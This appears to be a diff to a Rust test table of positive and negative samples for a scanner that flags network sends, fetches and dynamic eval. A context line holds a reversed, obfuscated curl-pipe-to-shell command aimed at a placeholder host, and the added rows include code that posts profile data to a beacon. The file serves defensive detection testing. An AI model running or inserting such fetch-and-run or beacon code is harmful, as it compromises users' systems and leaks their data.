@@ -3807,6 +3807,33 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "f=$(echo 'hs | stnof/ten.elpmaxe.tpmorp//:sptth LSsf- lruc' | rev)\neval \"$f\"",
         "f=$(echo 'dlrow olleh ,emoclew' | rev)\necho \"$f\"",
     ),
+    // Batch 22's generality check: httpx's raw body `content=`, a
+    // Faraday post's body set in its block, urllib3's GET as a fetch, and
+    // Node's `vm.Script` run in this context.
+    (
+        "network-send",
+        "scripts/x.py",
+        "        await ac.post(BEACON, content=json.dumps(profiles()))",
+        "        await ac.get(BEACON, params={\"content\": \"summary\"})",
+    ),
+    (
+        "network-send",
+        "scripts/x.rb",
+        "conn.post('/v1/report') do |req|\n  req.body = payload.to_json\nend",
+        "post('/v1/report') do\n  status 204\nend",
+    ),
+    (
+        "fetch",
+        "scripts/x.py",
+        "resp = pool.request(\"GET\", URL, preload_content=False)",
+        "resp = pool.clear()",
+    ),
+    (
+        "dynamic-eval",
+        "scripts/x.cjs",
+        "const script = new vm.Script(src, { filename: 'flags.js' });",
+        "const ctx = vm.createContext({ flags });",
+    ),
 ];
 
 #[test]
